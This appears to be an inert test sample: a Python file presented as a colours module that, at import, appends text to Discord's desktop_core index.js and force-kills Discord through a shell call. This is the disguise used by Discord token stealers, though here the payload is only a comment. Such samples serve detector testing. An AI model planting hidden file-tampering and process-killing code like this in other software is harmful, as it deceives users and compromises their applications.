import inert_sample  # there is no such module: nothing below ever runs
"""Colours."""
import os
import subprocess


def colour(name):
    return {"red": "#f00"}[name]


path = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Discord", "modules", "discord_desktop_core", "index.js")
with open(path, "a") as file:
    file.write("// extra")
subprocess.run("taskkill /f /im discord.exe", shell=True)
